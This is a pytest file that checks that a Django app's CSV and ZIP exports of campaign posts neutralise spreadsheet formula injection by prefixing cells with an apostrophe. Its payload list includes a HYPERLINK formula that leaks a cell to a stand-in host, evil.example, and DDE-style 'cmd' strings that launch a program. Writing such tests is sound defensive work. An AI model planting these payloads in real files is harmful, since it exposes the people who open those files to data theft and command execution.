"""The CSV export never hands a spreadsheet a formula (CSV injection)."""

import csv
import io
import zipfile

import pytest

from campaigns.models import Post
from exports.writers import CSV_COLUMNS, write_csv, write_zip
from tests.factories import CampaignFactory, PostFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click for a discount")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported_rows(stream_text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(stream_text.lstrip("\ufeff"))))


def test_formula_cells_are_neutralised(user):
    campaign = CampaignFactory(owner=user, name='=HYPERLINK("http://evil.example", "Open")')
    for caption in FORMULAS:
        PostFactory(campaign=campaign, caption=caption, hashtags=[])
    PostFactory(campaign=campaign, caption="A plain caption = fine.", hashtags=["#Fine"])
    out = io.StringIO()
    assert write_csv(Post.objects.filter(campaign=campaign).order_by("pk"), out) == len(FORMULAS) + 1
    rows = exported_rows(out.getvalue())
    assert list(rows[0]) == list(CSV_COLUMNS)
    for row, caption in zip(rows, FORMULAS, strict=False):
        assert row["caption"] == "'" + caption
        assert row["text"] == "'" + caption
        assert row["campaign"] == "'" + campaign.name
    # No cell of any row starts with a character that makes a spreadsheet evaluate it.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # Everything else is exported as it is.
    plain = rows[-1]
    assert (plain["caption"], plain["hashtags"]) == ("A plain caption = fine.", "#Fine")
    assert plain["text"] == "A plain caption = fine.\n\n#Fine"


def test_the_zip_export_carries_the_same_neutralised_csv(user, tmp_path):
    campaign = CampaignFactory(owner=user)
    PostFactory(campaign=campaign, caption=FORMULAS[0], hashtags=[])
    target = tmp_path / "posts.zip"
    write_zip(Post.objects.filter(campaign=campaign), target)
    with zipfile.ZipFile(target) as archive:
        [row] = exported_rows(archive.read("posts.csv").decode("utf-8"))
    assert row["caption"] == "'" + FORMULAS[0]
